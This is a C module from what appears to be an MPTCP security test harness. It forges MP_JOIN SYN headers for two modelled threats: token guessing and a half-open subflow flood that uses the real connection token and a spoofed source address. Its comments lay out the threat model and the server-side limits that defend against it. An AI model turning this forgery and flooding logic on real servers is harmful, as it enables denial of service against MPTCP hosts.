/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * attack_join.c - threats A3 and A5: MP_JOIN SYNs from the attacker.
 *
 * Each forgery is a SYN with MP_JOIN (RFC 8684 section 3.2) toward the
 * victim, the server of the connection, from a fresh source port each
 * time, so that every one that names a known token opens a half-open
 * subflow there:
 *   "join-guess" (A3, off-path): a random token each time. One guess hits
 *                 a given connection with probability 2^-32 (the token is
 *                 the top 32 bits of SHA-256 of the server's key); a hit
 *                 would still need the keys for the third ACK's HMAC.
 *   "join-flood" (A5): the connection's real token when the attacker saw
 *                 the MP_CAPABLE keys (on-path; the token follows from the
 *                 server's key, mptcp_key_token_idsn), random tokens
 *                 otherwise. Each SYN with the real token costs the server
 *                 a half-open subflow and an HMAC for its SYN/ACK.
 * The source address is `peer_addr` when it is set (a spoofed address
 * that the SYN/ACKs never reach, so the half-open subflows wait for their
 * timeout), otherwise the victim's peer's (on-path) address.
 * What protects the victim: the token's 32 bits and the HMAC of the third
 * ACK (not switchable in RFC 8684), and the bound on half-open joins per
 * connection (mptcp_config.max_half_open_joins, enforce_limits).
 */
#include "attack.h"

static int join_guess_init(struct mptcp_attacker *a) {
  return a->cfg.on_path ? MPTCP_ERR_INVALID_ARGUMENT : 0;
}

static int fill_join(struct mptcp_attacker *a, const struct atk_flow *f, mptcp_tcphdr *h,
                     int real_token) {
  uint64_t r = atk_rand64(a);
  uint32_t token = (uint32_t)(r >> 32);
  if (real_token && a->st.keys_known) {
    /* f runs toward the victim (the server): the token of its key */
    uint64_t key = f->from_client ? a->key_server : a->key_client;
    mptcp_key_token_idsn(key, &token, NULL);
  }
  if (a->cfg.peer_addr.family == f->dst.family) {
    a->forge_src = a->cfg.peer_addr;
    a->forge_src_set = 1;
  }
  h->sport = (uint16_t)(1024 + (uint16_t)r % 64000); /* a fresh subflow each time */
  h->seq = (uint32_t)(r >> 16);
  h->ack = 0;
  h->flags = MPTCP_TH_SYN;
  h->window = 65535;
  h->opts = MPTCP_OPT_MP_JOIN;
  h->join.len = MPTCP_JOIN_LEN_SYN;
  h->join.token = token;
  h->join.nonce = (uint32_t)atk_rand64(a);
  h->join.addr_id = a->cfg.addr_id;
  h->join.backup = 0;
  return 0;
}

static int write_join_guess(struct mptcp_attacker *a, const struct atk_flow *f, mptcp_tcphdr *h,
                            uint64_t now) {
  (void)now;
  return fill_join(a, f, h, 0);
}

static int write_join_flood(struct mptcp_attacker *a, const struct atk_flow *f, mptcp_tcphdr *h,
                            uint64_t now) {
  (void)now;
  if (a->cfg.on_path && !a->st.keys_known)
    return 1; /* not yet: the MP_CAPABLE keys give the token */
  return fill_join(a, f, h, 1);
}

const struct attack_ops attack_join_guess = {
    .name = "join-guess", .init = join_guess_init, .write = write_join_guess};
const struct attack_ops attack_join_flood = {.name = "join-flood", .write = write_join_flood};
